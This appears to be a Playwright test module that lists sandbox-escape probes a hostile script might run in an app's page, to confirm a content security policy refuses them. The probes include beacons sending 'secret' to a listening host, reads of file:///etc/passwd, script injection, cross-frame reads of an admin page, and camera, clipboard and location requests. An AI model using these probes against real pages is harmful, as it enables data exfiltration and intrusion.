// What a hostile script in the app's page could try. The source of each attack runs in the page, so it uses nothing outside
// itself but `host`, the address of a listening server. It resolves to something true when it got through; when it was
// refused it throws or resolves to false. Whether something arrived that the page cannot see, the listening server knows.
import type { Page } from "playwright";

type Attack = (host: string) => unknown;

/** The page's world as attacks use it. */
interface AttackedPage {
  gotIn?: boolean;
  attacks: Record<string, Attack>;
  /** Resolves to true when the element is loaded, and to false when it is refused. */
  loaded(element: HTMLElement): Promise<boolean>;
  eval(source: string): unknown;
}
declare const self: AttackedPage & { Function: FunctionConstructor };

const requests: Record<string, Attack> = {
  "fetch to another host": (host) => fetch(`http://${host}/`, { mode: "no-cors" }).then(() => true),
  "fetch that outlives the page": (host) =>
    fetch(`http://${host}/`, { method: "POST", body: "x", mode: "no-cors", keepalive: true }).then(() => true),
  "fetch of a file": () => fetch("file:///etc/hostname").then(() => true),
  "fetch of a printed page": () => fetch("print://any/").then(() => true),
  "fetch of another app's address": () => fetch("app://other/admin").then(({ ok }) => ok),
  XMLHttpRequest: (host) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onload = () => resolve(true);
      request.onerror = () => resolve(false);
      request.open("GET", `http://${host}/`);
      request.send();
    }),
  WebSocket: (host) =>
    new Promise((resolve) => {
      const socket = new WebSocket(`ws://${host}/`);
      socket.onopen = () => resolve(true);
      socket.onerror = () => resolve(false);
    }),
  EventSource: (host) =>
    new Promise((resolve) => {
      const source = new EventSource(`http://${host}/`);
      source.onopen = () => resolve(true);
      source.onerror = () => {
        source.close();
        resolve(false);
      };
    }),
  // It says "queued" before any policy is asked.
  sendBeacon: (host) => void navigator.sendBeacon(`http://${host}/`, "secret"),
  "a ping of a link": (host) => {
    const link = Object.assign(document.createElement("a"), { href: "#", ping: `http://${host}/` });
    link.addEventListener("click", (event) => event.preventDefault());
    document.body.append(link);
    link.click();
    link.remove();
  },
  "a form": (host) => {
    const form = Object.assign(document.createElement("form"), { action: `http://${host}/`, method: "post" });
    document.body.append(form);
    form.submit();
    form.remove();
  },
};

const elements: Record<string, Attack> = {
  "a picture": (host) => self.loaded(Object.assign(new Image(), { src: `http://${host}/` })),
  "a script": (host) => self.loaded(Object.assign(document.createElement("script"), { src: `http://${host}/x.js` })),
  "a module": (host) =>
    self.loaded(Object.assign(document.createElement("script"), { type: "module", src: `http://${host}/module.js` })),
  "a module in its address": () =>
    self.loaded(
      Object.assign(document.createElement("script"), { type: "module", src: "data:text/javascript,export default 1" }),
    ),
  "a style sheet": (host) =>
    self.loaded(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `http://${host}/x.css` })),
  "an address fetched ahead": (host) =>
    self.loaded(
      Object.assign(document.createElement("link"), { rel: "preload", as: "script", href: `http://${host}/ahead` }),
    ),
  "an object": (host) => self.loaded(Object.assign(document.createElement("object"), { data: `http://${host}/` })),
  "a frame of another host": async (host) => {
    await self.loaded(Object.assign(document.createElement("iframe"), { src: `http://${host}/` }));
  },
  "a frame of the app": () =>
    new Promise((resolve) => {
      const frame = Object.assign(document.createElement("iframe"), { src: "app://shop/admin" });
      frame.onload = () => {
        let text = "";
        try {
          text = frame.contentDocument?.querySelector("#root")?.innerHTML ?? "";
        } catch {
          // A refused frame has another origin.
        }
        frame.remove();
        resolve(text);
      };
      document.body.append(frame);
    }),
};

const code: Record<string, Attack> = {
  eval: () => self.eval("1 + 1"),
  "new Function": () => new self.Function("return 2")(),
  "a script in the page": () => {
    self.gotIn = false;
    document.head.append(Object.assign(document.createElement("script"), { text: "self.gotIn = true" }));
    return self.gotIn;
  },
  "an event's attribute": () => {
    self.gotIn = false;
    const element = document.createElement("div");
    element.setAttribute("onclick", "self.gotIn = true");
    element.click();
    return self.gotIn;
  },
  "a worker that evaluates": () =>
    new Promise((resolve) => {
      const source = ["try { postMessage(eval('2')) } catch { postMessage(0) }"];
      const worker = new Worker(URL.createObjectURL(new Blob(source, { type: "text/javascript" })));
      worker.onmessage = ({ data }) => resolve(data);
      worker.onerror = () => resolve(false);
    }),
  "a service worker": () => navigator.serviceWorker.register("/admin/sw.js").then(() => true),
};

const navigation: Record<string, Attack> = {
  "a new window of another host": (host) => window.open(`http://${host}/`),
  "a new window of the app": () => window.open("app://shop/admin"),
  "a new window for a file": () => window.open("file:///etc/passwd"),
  "going to another host": (host) => void location.assign(`http://${host}/`),
  "going to a file": () => void location.assign("file:///etc/passwd"),
  "going to a page in its address": () => void location.assign("data:text/html,<p>in"),
  "a script as an address": () => void location.assign("javascript:void(document.title = 'in')"),
};

const permissions: Record<string, Attack> = {
  "the camera": () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => true),
  "the microphone": () => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => true),
  "the screen": () => navigator.mediaDevices.getDisplayMedia().then(() => true),
  "the place": () =>
    new Promise((resolve) =>
      navigator.geolocation.getCurrentPosition(
        () => resolve(true),
        () => resolve(false),
      ),
    ),
  "the clipboard's text": () => navigator.clipboard.readText().then(() => true),
  "notifications of the page": () => Notification.requestPermission().then((state) => state === "granted"),
  "a cookie": () => {
    // biome-ignore lint/suspicious/noDocumentCookie: the attack is the subject.
    document.cookie = "a=b";
    return document.cookie;
  },
};

export const attacks: Readonly<Record<string, Attack>> = {
  ...requests,
  ...elements,
  ...code,
  ...navigation,
  ...permissions,
};

/** Runs an attack in a task of the page's own, since what a debugger evaluates is under a milder policy. */
export async function attack(page: Page, name: string, host: string): Promise<"refused" | string> {
  const sources = Object.entries(attacks).map(([title, source]) => `${JSON.stringify(title)}: ${source}`);
  await page.evaluate(`self.attacks = {${sources.join(",")}}`);
  return page.evaluate(
    ([title, target]) =>
      new Promise<string>((resolve) => {
        self.loaded = (element) =>
          new Promise<boolean>((settle) => {
            element.onload = () => settle(true);
            element.onerror = () => settle(false);
            document.body.append(element);
          }).finally(() => element.remove());
        setTimeout(() => {
          const run = async () => self.attacks[title]?.(target);
          run().then(
            (value) => resolve(value ? `got through: ${value}` : "refused"),
            () => resolve("refused"),
          );
        });
      }),
    [name, host] as const,
  );
}
